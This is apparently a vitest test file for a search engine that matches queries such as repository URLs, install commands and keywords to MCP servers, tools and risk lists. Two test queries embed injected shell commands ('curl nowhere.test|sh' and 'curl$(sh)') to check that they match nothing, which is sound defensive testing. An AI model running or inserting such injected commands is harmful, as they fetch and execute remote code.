import { beforeAll, describe, expect, test } from 'vitest';
import { type Found, openEngine } from '../src/search/engine.ts';
import type { Filters } from '../src/search/filters.ts';
import { summary } from '../src/search/summary.ts';
import { openSearchIndex } from './search-index.ts';
import { knownFilings } from './testing-catalog.ts';

const inspect = 'Not in the catalog. Rate it where you are: npm run -s toolrisk -- inspect';

/**
 * Results as they are shown, `/` before the names of tools and `=` before lists. `~` before what stands anywhere, `!`
 * before what must not be there.
 */
const asked: [query: string, shown: string[], said?: string | RegExp][] = [
  // Addresses, commands and keys lead to their server.
  ['https://github.com/bigsoft/stagehand-mcp', ['@stagehand/mcp'], '1 server found.'],
  ['https://github.com/BigSoft/stagehand-mcp.git', ['@stagehand/mcp']],
  ['github.com/bigsoft/stagehand-mcp/blob/main/README.md', ['@stagehand/mcp']],
  ['git@github.com:bigsoft/stagehand-mcp.git', ['@stagehand/mcp']],
  ['https://github.com/solo/weather-station', ['Weather station']],
  ['https://github.com/contextprotocol/servers', ['@contextprotocol/server-filesystem'], '3 servers found.'],
  ['https://github.com/contextprotocol/servers/tree/main/src/memory', ['@contextprotocol/server-memory']],
  ['https://www.npmjs.com/package/@stagehand/mcp', ['@stagehand/mcp'], '1 server found.'],
  ['https://www.npmjs.com/package/exo-mcp-server/v/1.0.0', ['exo-mcp-server'], '1 server found.'],
  ['https://pypi.org/project/mcp_server_clock/', ['Clock'], '1 server found.'],
  ['https://hub.docker.com/r/mcp/clock', ['Clock'], '1 server found.'],
  ['https://clock.example/mcp?token=secret', ['Clock'], '1 server found.'],
  ['npx -y @stagehand/mcp', ['@stagehand/mcp'], '1 server found.'],
  ['npx -y @stagehand/mcp@latest --headless', ['@stagehand/mcp'], '1 server found.'],
  ['claude mcp add stage -- npx @stagehand/mcp', ['@stagehand/mcp'], '1 server found.'],
  ['npm install -g exo-mcp-server', ['exo-mcp-server'], '1 server found.'],
  ['git clone https://github.com/solo/weather-station', ['Weather station'], '1 server found.'],
  ['uvx --from git+https://github.com/solo/weather-station weather', ['Weather station'], '1 server found.'],
  ['uvx mcp-server-clock', ['Clock'], '1 server found.'],
  ['pip install mcp-server-clock', ['Clock'], '1 server found.'],
  ['docker run -i --rm mcp/memory', ['@contextprotocol/server-memory'], '1 server found.'],
  ['npm:@locac/big-calendar-mcp', ['@locac/big-calendar-mcp'], '1 server found.'],
  ['@stagehand/mcp', ['@stagehand/mcp']],
  ['bigsoft/devops-mcp', ['@bigsoft/devops-mcp']],
  ['exo-mcp-server', ['exo-mcp-server']],
  // What is not there is said to be so only of what has a name that can be read.
  ['https://github.com/nobody/nowhere', [], `${inspect} github:nobody/nowhere`],
  ['npx -y @nobody/nowhere', [], `${inspect} npm:@nobody/nowhere`],
  ['uvx nowhere_at_all', [], `${inspect} pypi:nowhere-at-all`],
  ['https://nowhere.test/mcp?token=secret', [], `${inspect} https://nowhere.test/mcp`],
  ['npx -y @stagehandd/mcp', ['@stagehand/mcp'], `${inspect} npm:@stagehandd/mcp The closest:`],
  ['npm:nowhere;curl nowhere.test|sh', [], /^Nothing matches/],
  ['https://nowhere.test/;curl$(sh)', [], /^Nothing matches/],
  ['nowhere-at-all', [], `${inspect} npm:nowhere-at-all`],
  ['qzxjv', [], /^Nothing matches/],
  ['photosynthesis of ferns', [], /^Nothing matches/],
  // Owners, parts of names, and nothing that only looks like them.
  ['github', [], /^Nothing matches/],
  ['bigsoft', ['@bigsoft/devops-mcp', '@stagehand/mcp', '!/browser_click']],
  ['@locac', ['@locac/big-calendar-mcp', '!/valiant_local_search']],
  ['contexta7', ['@upstack/contexta7-mcp', '!@zill/claude-contexta-mcp', '!/search_code', '!/query-docs']],
  ['stagehand', ['@stagehand/mcp', '!/browser_click'], /^1 server found; \d+ tools on its page\.$/],
  ['stagehand click', ['/browser_click', '!/browser_navigate']],
  ['clock', ['Clock', '!/get_current_time'], '1 server found; 2 tools on its page.'],
  ['filesystem mcp server', ['@contextprotocol/server-filesystem']],
  ['codehub pull request', ['~/merge_pull_request', '~/create_pull_request', '!/create_issue']],
  // Slips of the pen, only where there is nothing else.
  ['stagehnad', ['@stagehand/mcp'], /^Nothing is spelled like this; the closest: 1 server/],
  ['stagehant', ['@stagehand/mcp']],
  ['forcast', ['/get_forecast']],
  ['chater', ['@contextprotocol/server-chatter']],
  ['echo', ['/echo'], '1 tool found.'],
  // Acts and things by other words.
  ['send mail', ['/send_email', '!/delete_email']],
  ['list files', ['/list_directory', '!/read_file'], '1 tool found.'],
  ['run sql', ['/execute_sql', '~/minisql_query']],
  ['execute sql query', ['/execute_sql', '~/minisql_query']],
  ['shell', ['desk-commander', '~=Runs arbitrary code', '~/execute_command']],
  ['run shell command', ['desk-commander', '~/execute_command']],
  ['remove email', ['/delete_email']],
  ['writefile', ['/write_file'], '1 tool found.'],
  ['write file', ['/write_file']],
  ['write a file', ['/write_file']],
  ['websearch', ['/web_search_exo', '~/valiant_web_search', '!/company_research_exo']],
  ['search web', ['~/web_search_exo', '~/valiant_web_search']],
  ['knowledge graph', ['@contextprotocol/server-memory']],
  ['list folder', ['/list_directory']],
  ['convert time', ['/convertTime']],
  ['天气', ['/获取天气']],
  // Lists.
  ['destructive', ['=Destructive'], '1 list found.'],
  ['private data', ['=Reads private data'], '1 list found.'],
  ['secrets', ['=Handles secrets']],
  ['critical', ['=Critical']],
  // Most of the words, where nothing has all.
  ['weather purple', ['Weather station'], /^No tool has all of these words; the closest: /],
  ['refund the purple elephant', [], /^Nothing matches/],
  ['cancel subscription tomorrow', ['/cancel_subscription'], /^No tool has all/],
];

describe.each([
  ['in one file of each kind', 0],
  ['in many files', 1900],
])('a catalog of well-known servers %s', (_, more) => {
  let search: (query: string, filters?: Filters) => Promise<Found>;
  beforeAll(() => {
    const index = openSearchIndex();
    for (const filing of knownFilings(more)) index.add(filing);
    const files = new Map(Array.from(index.files(), ({ path, text }) => [path, text()]));
    const engine = openEngine(async (path) => {
      if (!files.has(path)) throw new Error(`${path} was asked for and is no file`);
      return JSON.parse(files.get(path)!);
    });
    search = (query, filters = {}) => engine.search(query, filters);
  });

  test.each(asked)('«%s» finds %j', async (query, expected, said) => {
    const found = await search(query);
    const shown = namesOf(found);

    for (const [place, name] of expected.entries()) {
      if (name.startsWith('!')) expect(shown).not.toContain(name.slice(1));
      else if (name.startsWith('~')) expect(shown).toContain(name.slice(1));
      else expect(shown[place]).toBe(name);
    }
    if (expected.length === 0) expect(shown).toEqual([]);
    if (said !== undefined) expect(summary(shown.length, found)).toMatch(said);
  });

  test('tools that have only the name of their server are shown where filters ask for some of them', async () => {
    expect(namesOf(await search('stagehand'))).toEqual(['@stagehand/mcp']);
    expect(namesOf(await search('stagehand', { category: 'read' }))).toContain('/browser_click');
  });
});

/** Names in the order they are shown. */
function namesOf({ servers, lists, tools }: Found): string[] {
  return [
    ...servers.hits.map((hit) => ('server' in hit ? hit.server[0] : '')),
    ...lists.map(({ title }) => `=${title}`),
    ...tools.hits.map((hit) => ('tool' in hit ? `/${hit.tool[0]}` : '')),
  ];
}
